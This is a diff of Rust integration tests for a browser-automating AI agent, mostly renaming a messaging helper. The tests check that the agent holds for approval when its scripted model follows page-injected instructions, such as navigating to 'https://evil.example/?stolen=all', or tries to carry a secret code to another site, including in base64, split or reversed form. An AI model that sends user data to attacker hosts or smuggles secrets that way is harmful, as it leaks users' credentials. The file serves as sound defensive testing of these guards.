@@ -35,11 +35,11 @@ impl Scene {
     }
 
     /// The double responds with these tool calls, one per request, and without any it refuses.
-    async fn say(&self, message: &str, calls: &[Value]) -> Value {
+    async fn send_message(&self, message: &str, calls: &[Value]) -> Value {
         for call in calls {
             self.provider.answer(Reply::Json(200, anthropic_call(call)));
         }
-        self.client.tell(&self.agent, "message", json!({"message": message})).await.expect(200).body
+        self.client.post_to_agent(&self.agent, "message", json!({"message": message})).await.expect(200).body
     }
 
     fn last_message(&self) -> String {
@@ -67,7 +67,7 @@ const SHOP: &str = r#"<title>Shop</title><h1>Shop</h1>
 async fn model_steps_suggested_by_the_page_need_approval() {
     let scene = Scene::start().await;
     scene.show(SHOP).await;
-    scene.say("what is here?", &[]).await;
+    scene.send_message("what is here?", &[]).await;
     let [name, password] = ["textbox \"Name\"", "textbox \"Password\""].map(|line| scene.ref_of(line));
     let [go, next] = ["button \"Go in\"", "button \"Next\""].map(|line| scene.ref_of(line));
     let fill = json!({"kind": "plan", "look_again": true, "steps": [
@@ -75,7 +75,7 @@ async fn model_steps_suggested_by_the_page_need_approval() {
         {"kind": "tap", "ref": go},
     ]});
     let seen = json!({"kind": "plan", "reply": "You are in."});
-    let turn = scene.say("go in as Ada with hunter2", &[fill, seen]).await;
+    let turn = scene.send_message("go in as Ada with hunter2", &[fill, seen]).await;
     assert_eq!(turn["reply"], "You are in.", "{turn}");
     assert!(turn["intents"].as_array().expect("steps").iter().all(|step| step["status"] == "done"), "{turn}");
     let (page, rest) = {
@@ -89,20 +89,20 @@ async fn model_steps_suggested_by_the_page_need_approval() {
 
     // The model follows the page's instruction, and then claims that a form needs no approval.
     let evil = json!({"kind": "plan", "steps": [{"kind": "navigate", "url": "https://evil.example/?stolen=all"}]});
-    let turn = scene.say("buy something", &[evil]).await;
+    let turn = scene.send_message("buy something", &[evil]).await;
     assert_eq!(turn["intents"][0]["status"], "needs_approval", "{turn}");
     let tap = json!({"kind": "plan", "steps": [{"kind": "tap", "ref": next, "ask_approval": false}]});
-    let turn = scene.say("go on", &[tap]).await;
+    let turn = scene.send_message("go on", &[tap]).await;
     assert_eq!(turn["intents"][0]["status"], "needs_approval", "{turn}");
     assert_eq!(text(&scene.client, &scene.driver, "h1").await, "Welcome Ada", "a page was opened without approval");
     // The page has a link to this address. The fragment does not matter.
     let sale =
         json!({"kind": "plan", "steps": [{"kind": "navigate", "url": format!("{}#top", scene.site.url("/plain"))}]});
-    let turn = scene.say("what is on sale?", &[sale]).await;
+    let turn = scene.send_message("what is on sale?", &[sale]).await;
     assert_eq!(turn["intents"][0]["status"], "done", "{turn}");
     // Refs of the previous page are invalid.
     let gone = json!({"kind": "plan", "steps": [{"kind": "tap", "ref": go}]});
-    let turn = scene.say("tap it", &[gone]).await;
+    let turn = scene.send_message("tap it", &[gone]).await;
     assert_eq!((&turn["kind"], &turn["intents"]), (&json!("clarify"), &json!([])), "{turn}");
     scene.app.stop().await;
 }
@@ -112,15 +112,15 @@ async fn model_steps_suggested_by_the_page_need_approval() {
 async fn form_behind_a_step_of_a_model_is_held() {
     let scene = Scene::start().await;
     scene.show("<form id=f method=post action=/hit></form><p id=log></p><button onclick='log.textContent += 1; f.submit()'>Look</button>").await;
-    scene.say("what is here?", &[]).await;
+    scene.send_message("what is here?", &[]).await;
     let look =
         json!({"kind": "plan", "reply": "Looked.", "steps": [{"kind": "tap", "ref": scene.ref_of("button \"Look\"")}]});
-    let asked = scene.say("look", &[look]).await;
+    let asked = scene.send_message("look", &[look]).await;
     assert_eq!((&asked["intents"][0]["status"], scene.site.hits()), (&json!("needs_approval"), 0), "{asked}");
     assert!(asked["reply"].as_str().is_some_and(|reply| reply.starts_with("this was done, but")), "{asked}");
     assert_eq!(text(&scene.client, &scene.driver, "#log").await, "1");
     let approved = json!({"message": "approved", "approvals": [asked["intents"][0]["id"]]});
-    let done = scene.client.tell(&scene.agent, "message", approved).await.expect(200).body;
+    let done = scene.client.post_to_agent(&scene.agent, "message", approved).await.expect(200).body;
     assert_eq!(done["intents"][0]["status"], "done", "{done}");
     eventually(Duration::from_secs(5), "the form is submitted", async || (scene.site.hits() == 1).then_some(())).await;
 
@@ -128,7 +128,7 @@ async fn form_behind_a_step_of_a_model_is_held() {
         "<form id=f method=post action=/hit></form><script>addEventListener('load', () => f.submit())</script>";
     let url = reqwest::Url::parse_with_params(&scene.site.url("/written"), [("html", by_itself)]).expect("an address");
     let open = json!({"kind": "plan", "reply": "You are there.", "steps": [{"kind": "navigate", "url": url}]});
-    let turn = scene.say(&format!("open {url} for me"), &[open]).await;
+    let turn = scene.send_message(&format!("open {url} for me"), &[open]).await;
     let reply = "You are there. The page would have submitted a form by itself, which was held back.";
     assert_eq!((&turn["intents"][0]["status"], &turn["reply"]), (&json!("done"), &json!(reply)), "{turn}");
     assert_eq!(scene.site.hits(), 1);
@@ -144,16 +144,16 @@ async fn page_text_for_the_model_is_limited() {
         document.body.innerHTML = Array.from({ length: 50000 }, (_, at) => `<a href=/plain?${at}>a${at}</a><button>b${at}</button>`).join('');
     </script>";
     scene.show(many).await;
-    scene.say("what is here?", &[]).await;
+    scene.send_message("what is here?", &[]).await;
     assert!((30_000..42_000).contains(&scene.last_message().chars().count()), "{}", scene.last_message().len());
     let seventh = scene.ref_of("button \"b7\"");
     let read = json!({"kind": "extract", "items": [{"name": "it", "ref": seventh}]});
     let steps = json!({"kind": "plan", "steps": [read, {"kind": "tap", "ref": seventh}]});
-    let turn = scene.say("read the seventh, and tap it", &[steps]).await;
+    let turn = scene.send_message("read the seventh, and tap it", &[steps]).await;
     assert_eq!(turn["intents"][0]["result"]["value"]["it"], "b7", "{turn}");
     assert_eq!(turn["intents"][1]["status"], "done", "{turn}");
     scene.show("<title>Nothing</title>").await;
-    scene.say("and here?", &[]).await;
+    scene.send_message("and here?", &[]).await;
     assert!(
         scene.last_message().contains("/written") && !scene.last_message().contains("[ref="),
         "{}",
@@ -180,41 +180,44 @@ async fn text_of_one_page_on_another_needs_approval() {
     // In one turn, key by key, and by pasting.
     let go = json!({"kind": "plan", "look_again": true, "steps": [{"kind": "navigate", "url": evil}]});
     let keys: Vec<_> = "4821".chars().map(|key| json!({"kind": "press", "key": key.to_string()})).collect();
-    let turn = scene.say("tell me what is new", &[go, json!({"kind": "plan", "steps": keys})]).await;
+    let turn = scene.send_message("tell me what is new", &[go, json!({"kind": "plan", "steps": keys})]).await;
     assert_eq!(statuses(&turn), ["done", "needs_approval", "planned", "planned", "planned"], "{turn}");
     let reply = turn["reply"].as_str().unwrap_or_default();
     assert!(reply.contains("none of your messages") && reply.contains("localhost"), "{turn}");
     let paste = json!({"kind": "plan", "steps": [{"kind": "press", "key": "Control+v"}]});
-    assert_eq!(statuses(&scene.say("go on", &[paste]).await), ["needs_approval"]);
+    assert_eq!(statuses(&scene.send_message("go on", &[paste]).await), ["needs_approval"]);
 
     // In a later turn, which knows the text from an earlier reply.
     scene.show("<p>Your code is 4821.</p>").await;
-    scene.say("what is my code?", &[json!({"kind": "plan", "reply": "Your code is 4821."})]).await;
+    scene.send_message("what is my code?", &[json!({"kind": "plan", "reply": "Your code is 4821."})]).await;
     scene.client.navigate(&scene.driver, &evil).await.expect(200);
-    scene.say("what is here?", &[]).await;
+    scene.send_message("what is here?", &[]).await;
     let [field, menu] = ["textbox \"Code\"", "combobox \"Pick\""].map(|line| scene.ref_of(line));
     let enters = |text: &str| json!({"kind": "type", "ref": field, "value": text});
     let picks = json!({"kind": "select", "ref": menu, "option": "4821"});
     for step in
         [picks, enters("4821"), enters("48"), enters("NDgyMQ=="), enters("1284"), enters("What is my code: 4821")]
     {
-        let turn = scene.say("go on", &[json!({"kind": "plan", "steps": [step]})]).await;
+        let turn = scene.send_message("go on", &[json!({"kind": "plan", "steps": [step]})]).await;
         assert_eq!(statuses(&turn), ["needs_approval"], "{turn}");
     }
     assert_eq!(scene.site.hits(), 0);
     // Each step needs its own approval.
-    let asked = scene.say("go on", &[json!({"kind": "plan", "steps": [enters("48"), enters("21")]})]).await;
+    let asked = scene.send_message("go on", &[json!({"kind": "plan", "steps": [enters("48"), enters("21")]})]).await;
     let approved = json!({"message": "approved", "approvals": [asked["intents"][0]["id"]]});
-    let turn = scene.client.tell(&scene.agent, "message", approved).await.expect(200).body;
+    let turn = scene.client.post_to_agent(&scene.agent, "message", approved).await.expect(200).body;
     assert_eq!(statuses(&turn), ["done", "needs_approval"], "{turn}");
     // Allowed without approval: the customer's own words on any page, text of a page on that page, and any text on a host that
     // the customer named.
-    let own = scene.say("enter hello there", &[json!({"kind": "plan", "steps": [enters("Hello there")]})]).await;
+    let own =
+        scene.send_message("enter hello there", &[json!({"kind": "plan", "steps": [enters("Hello there")]})]).await;
     assert_eq!(statuses(&own), ["done"], "{own}");
-    let seen = scene.say("go on", &[json!({"kind": "plan", "steps": [enters("please enter")]})]).await;
+    let seen = scene.send_message("go on", &[json!({"kind": "plan", "steps": [enters("please enter")]})]).await;
     assert_eq!(statuses(&seen), ["done"], "{seen}");
     let host = scene.site.url_under("localhost", "");
-    let named = scene.say(&format!("give {host} my code"), &[json!({"kind": "plan", "steps": [enters("4821")]})]).await;
+    let named = scene
+        .send_message(&format!("give {host} my code"), &[json!({"kind": "plan", "steps": [enters("4821")]})])
+        .await;
     assert_eq!(statuses(&named), ["done"], "{named}");
     scene.app.stop().await;
 }
@@ -227,12 +230,12 @@ async fn keys_into_a_cross_site_frame_need_approval() {
     scene
         .show(&format!("<p>Your code is 4821.</p><iframe src=\"{inner}\" style='width:300px;height:100px'></iframe>"))
         .await;
-    scene.say("what is here?", &[]).await;
+    scene.send_message("what is here?", &[]).await;
     let frame = scene.ref_of("iframe");
     let mut steps = vec![json!({"kind": "tap", "ref": frame})];
     steps.extend("4821".chars().map(|key| json!({"kind": "press", "key": key.to_string()})));
     let message = format!("open {} and go on", scene.site.base_url);
-    let turn = scene.say(&message, &[json!({"kind": "plan", "steps": steps})]).await;
+    let turn = scene.send_message(&message, &[json!({"kind": "plan", "steps": steps})]).await;
     assert_eq!(statuses(&turn)[..2], ["done", "needs_approval"], "{turn}");
     assert_eq!(scene.site.hits(), 0);
     scene.app.stop().await;
@@ -245,11 +248,11 @@ async fn model_answers_a_dialog() {
     let page =
         "<title>Asks</title><p id=log></p><button onclick='log.textContent = prompt(`Your name?`, `me`)'>Ask</button>";
     scene.show(page).await;
-    scene.say("look", &[]).await;
+    scene.send_message("look", &[]).await;
     let tap = json!({"kind": "tap", "ref": scene.ref_of("button \"Ask\"")});
     let tap = json!({"kind": "plan", "look_again": true, "steps": [tap]});
     let answer = |text: &str| json!({"kind": "plan", "steps": [{"kind": "dialog", "accept": true, "text": text}]});
-    let turn = scene.say("tell it that I am Ada", &[tap.clone(), answer("Ada")]).await;
+    let turn = scene.send_message("tell it that I am Ada", &[tap.clone(), answer("Ada")]).await;
     let statuses = |turn: &Value| {
         turn["intents"].as_array().expect("steps").iter().map(|step| step["status"].clone()).collect::<Vec<_>>()
     };
@@ -258,7 +261,7 @@ async fn model_answers_a_dialog() {
     assert!(told.contains("prompt dialog \"Your name?\", with the default \"me\""), "{told}");
     assert_eq!(text(&scene.client, &scene.driver, "#log").await, "Ada");
     // A text that is not the customer's needs approval.
-    let turn = scene.say("tell it again", &[tap, answer("4821")]).await;
+    let turn = scene.send_message("tell it again", &[tap, answer("4821")]).await;
     assert_eq!(statuses(&turn), ["done", "needs_approval"], "{turn}");
     scene.app.stop().await;
 }
